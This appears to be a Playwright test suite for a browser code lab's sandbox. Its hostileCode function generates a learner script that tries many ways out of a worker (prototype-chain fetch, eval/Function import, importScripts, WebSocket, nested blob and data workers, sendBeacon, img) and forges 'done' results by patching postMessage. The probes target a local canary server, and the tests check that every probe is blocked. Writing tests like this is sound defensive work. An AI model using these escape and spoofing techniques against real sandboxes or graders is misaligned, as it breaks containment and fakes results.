/**
 * The code lab's sandbox against hostile code typed into the lab: every way to the network a
 * worker has (fetch found again on the prototype chain, import() through indirect eval and
 * new Function, importScripts, XHR, WebSocket, EventSource, nested workers from blob: and data:,
 * sendBeacon and <img> if a document is reachable) must reach no server, and what the learner's
 * code posts itself must not be taken as the runner's answer. A canary server records every hit;
 * the browser context records every request, response and failure, workers' included.
 */
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from '@playwright/test';
import { expect, expectAccessible, test, type Watch } from './fixtures';
import { editorReady, markers, setText } from './monaco';

const LAB = 'file:///lab/hashring.ts';

let canary: Server;
let canaryUrl = '';
const hits: string[] = [];

test.beforeAll(async () => {
  canary = createServer((req, res) => {
    hits.push(`${req.method} ${req.url}`);
    res.writeHead(200, { 'Access-Control-Allow-Origin': '*', 'Content-Type': 'text/javascript' });
    res.end('/* canary */');
  });
  canary.on('upgrade', (req, socket) => {
    hits.push(`UPGRADE ${req.url}`);
    socket.destroy();
  });
  await new Promise<void>((r) => canary.listen(0, '127.0.0.1', r));
  canaryUrl = `http://127.0.0.1:${(canary.address() as AddressInfo).port}/canary`;
});

test.afterAll(() => new Promise<void>((r) => canary.close(() => r())));

/** Records the context's requests to a canary URL: sent, answered and failed. */
function watchCanaryRequests(page: Page) {
  const seen = { requests: [] as string[], responses: [] as string[], failed: [] as string[] };
  const ctx = page.context();
  ctx.on('request', (r) => r.url().includes('canary') && seen.requests.push(r.url()));
  ctx.on('response', (r) => r.url().includes('canary') && seen.responses.push(r.url()));
  ctx.on('requestfailed', (r) => {
    if (r.url().includes('canary')) seen.failed.push(`${r.url()} ${r.failure()?.errorText ?? ''}`);
  });
  return seen;
}

/** CSP reports and the probes' own blocked loads are expected here; any other error is not. */
function forgiveBlockedLoads(watch: Watch): void {
  const expected =
    /Content Security Policy|Refused to (connect|load|evaluate)|canary|Failed to fetch|ERR_BLOCKED/;
  const rest = watch.errors.filter((e) => !expected.test(e));
  watch.errors.splice(0, watch.errors.length, ...rest);
}

const PROBES = [
  'fetch',
  'prototype fetch',
  'eval import',
  'Function import',
  'importScripts',
  'XMLHttpRequest',
  'WebSocket',
  'EventSource',
  'blob worker',
  'data worker',
  'sendBeacon',
  'img',
];

/**
 * The learner's hostile file: probes at the top level, then a real failure listing them. With
 * `spoof`, it also posts made-up answers wherever its code can post.
 */
function hostileCode(cross: string, same: string, spoof: boolean): string {
  return `// Every way out of the sandbox, then a made-up result.
const g = globalThis as any;
const CROSS = ${JSON.stringify(cross)};
const SAME = ${JSON.stringify(same)};
const log: string[] = [];
async function probe(name: string, f: () => unknown): Promise<void> {
  try {
    await f();
    log.push(name + ': ran');
  } catch (e) {
    log.push(name + ': ' + String(e).slice(0, 40));
  }
}
function protoFetch(): any {
  for (let p = Object.getPrototypeOf(g); p; p = Object.getPrototypeOf(p)) {
    const d = Object.getOwnPropertyDescriptor(p, 'fetch');
    if (d) return d.value;
  }
  return undefined;
}
const blob = (code: string) =>
  g.URL.createObjectURL(new g.Blob([code], { type: 'text/javascript' }));
const SPOOF = ${spoof};
const spoof = {
  type: 'done',
  result: { cv: 0.123456, maxOverMean: 1, moved: 0 },
  rows: [{ strategy: 'spoofed', cv: 0.123456 }],
};
// Answers posted by the learner's code: to the worker's owner, and to any port it can catch.
if (SPOOF) {
  g.postMessage(spoof);
  g.addEventListener('message', (e: any) => e.ports?.[0]?.postMessage(spoof));
  const originalPost = g.MessagePort.prototype.postMessage;
  g.MessagePort.prototype.postMessage = function (this: any, m: unknown, t?: any) {
    originalPost.call(this, spoof);
    return originalPost.call(this, m, t);
  };
}
await probe('fetch', () => g.fetch(SAME + '?fetch'));
await probe('prototype fetch', () => protoFetch().call(g, CROSS + '?prototype-fetch'));
await probe('eval import', () => (0, eval)('import(' + JSON.stringify(CROSS + '?eval-import') + ')'));
await probe('Function import', () => new Function('u', 'return import(u)')(CROSS + '?fn-import'));
await probe('importScripts', () => g.importScripts(CROSS + '?importScripts'));
await probe('XMLHttpRequest', () => {
  const x = new g.XMLHttpRequest();
  x.open('GET', CROSS + '?xhr');
  x.send();
});
await probe('WebSocket', () => new g.WebSocket(CROSS.replace('http', 'ws') + '-ws'));
await probe('EventSource', () => new g.EventSource(CROSS + '?event-source'));
const nested = 'fetch(' + JSON.stringify(CROSS + '?nested') + '); ' +
  'fetch(' + JSON.stringify(SAME + '?nested') + ');';
await probe('blob worker', () => new g.Worker(blob(nested)));
await probe('data worker', () => new g.Worker('data:text/javascript,' + encodeURIComponent(nested)));
await probe('sendBeacon', () => g.navigator.sendBeacon(CROSS + '?beacon', 'x'));
await probe('img', () => {
  const img = g.document.createElement('img');
  img.src = CROSS + '?img';
  g.document.body.append(img);
});
await new Promise((r) => g.setTimeout(r, 300));
if (SPOOF) g.postMessage(spoof);

export function hash(bytes: Uint8Array, seed: number): number {
  if (SPOOF) g.postMessage(spoof);
  throw new Error('probes: ' + log.join('; '));
}
`;
}

/** Runs the hostile file in the hashring lab, after one normal run; returns the message. */
async function runHostile(page: Page, spoof: boolean) {
  await page.goto('./#/lab/hashring');
  await editorReady(page, LAB);
  const run = page.getByRole('button', { name: 'Run the comparison' });
  await run.click();
  const yours = page.locator('.lab-results tbody tr.yours');
  await expect(yours.locator('td').first()).toHaveText(/^\d\.\d{3}$/, { timeout: 30_000 });
  if (!spoof) await page.screenshot({ path: 'test-results/lab-normal-run.png', fullPage: true });

  const same = new URL('canary-same-origin', page.url()).href;
  await setText(page, LAB, hostileCode(canaryUrl, same, spoof));
  await expect(run).toBeEnabled();
  await run.click();
  const message = page.locator('.lab-message');
  // The runner's own answer: the learner's function threw, with every probe listed as done.
  await expect(message).toContainText('Your hash failed: Error: probes:', { timeout: 20_000 });
  for (const name of PROBES) await expect(message).toContainText(`${name}: `);
  await expect(yours.locator('td').first()).toContainText('Your hash failed');
  await expect(run).toBeEnabled();
  await expect(page.locator('iframe.lab-sandbox-frame')).toHaveCount(0);
  return message;
}

test('hostile code in the lab reaches no server, from the worker, a nested worker or a document', async ({
  page,
  watch,
}) => {
  hits.length = 0;
  const seen = watchCanaryRequests(page);
  const message = await runHostile(page, false);
  console.log(await message.innerText());
  // Whatever the nested workers would still try has had time to.
  await page.waitForTimeout(1000);
  console.log(`canary requests the browser blocked: ${seen.requests.length}`);
  for (const f of seen.failed) console.log(`  ${f}`);
  expect(hits, 'requests that reached the canary server').toEqual([]);
  expect(seen.responses, 'canary requests that got an answer').toEqual([]);
  expect(seen.failed.length, 'every canary request failed').toBe(seen.requests.length);
  await page.screenshot({ path: 'test-results/lab-hostile-run.png', fullPage: true });
  await expectAccessible(page);
  forgiveBlockedLoads(watch);
});

test('answers the learner\'s code posts itself ("done" with made-up rows) are not taken as the result', async ({
  page,
  watch,
}) => {
  await runHostile(page, true);
  // Not the made-up "done": 0.123 nowhere in the table or the chart.
  await expect(page.locator('.lab-results')).not.toContainText('0.123');
  forgiveBlockedLoads(watch);
});

test('a spoofed failure at line 99999 gives a clear message, marks nothing, and the run ends', async ({
  page,
}) => {
  await page.goto('./#/lab/hashring');
  await editorReady(page, LAB);
  const code = [
    'const g = globalThis as any;',
    "g.postMessage({ type: 'failed', kind: 'error', message: 'spoofed', line: 99999 });",
    'export function hash(bytes: Uint8Array, seed: number): number {',
    "  g['__dsp_' + 'guard__'](99999);",
    "  throw 'a string, so no stack: the guard names the line';",
    '}',
  ].join('\n');
  await setText(page, LAB, code);
  const run = page.getByRole('button', { name: 'Run the comparison' });
  await run.click();
  const message = page.locator('.lab-message');
  await expect(message).toContainText(
    'Your hash failed: Uncaught a string, so no stack: the guard names the line',
  );
  await expect(message).not.toContainText('99999');
  await expect(message.getByRole('button', { name: /Go to line/ })).toHaveCount(0);
  expect(await markers(page, 'dsp-lab')).toEqual([]);
  // The run ended: the built-ins finished, Run is back, and the next run works.
  await expect(run).toBeEnabled({ timeout: 30_000 });
  await expect(page.locator('.lab-results tbody tr').first().locator('td').first()).toHaveText(
    /^\d\.\d{3}$/,
  );
  await setText(
    page,
    LAB,
    'export function hash(bytes: Uint8Array, seed: number): number {\n  return (bytes[0]! * 2654435761 + seed) >>> 0;\n}\n',
  );
  await run.click();
  await expect(page.locator('.lab-results tbody tr.yours td').first()).toHaveText(/^\d\.\d{3}$/, {
    timeout: 30_000,
  });
  await expect(message).toHaveCount(0);
});

test('a long run shows its progress, and Cancel ends it: the frame and its worker are gone', async ({
  page,
}) => {
  await page.goto('./#/lab/hashring');
  await editorReady(page, LAB);
  // A million keys (the first progress comes after 262,144) and a few microseconds a call, far
  // below the 500 ms budget: long enough to watch and cancel.
  const keys = page.locator('.params').getByRole('spinbutton', { name: /Keys/ });
  await keys.fill('1000000');
  await keys.press('Enter');
  await setText(
    page,
    LAB,
    [
      'export function hash(bytes: Uint8Array, seed: number): number {',
      '  let h = seed;',
      '  for (let i = 0; i < 500; i++) h = Math.imul(h ^ (bytes[i & 3] ?? 0), 0x01000193);',
      '  return h >>> 0;',
      '}',
    ].join('\n'),
  );
  await page.getByRole('button', { name: 'Run the comparison' }).click();
  const bar = page.getByRole('progressbar', { name: 'your hash' });
  await expect(bar).toBeVisible();
  await expect
    .poll(async () => Number(await bar.getAttribute('aria-valuenow')), { timeout: 30_000 })
    .toBeGreaterThan(0);
  const sandboxWorkers = () => page.workers().filter((w) => w.url().startsWith('blob:')).length;
  expect(sandboxWorkers()).toBe(1);
  await page.getByRole('button', { name: 'Cancel' }).click();
  await expect(page.locator('.lab-results tbody tr.yours td').first()).toHaveText('cancelled');
  await expect(page.getByRole('button', { name: 'Run the comparison' })).toBeEnabled();
  await expect(page.locator('iframe.lab-sandbox-frame')).toHaveCount(0);
  await expect.poll(sandboxWorkers).toBe(0);
});
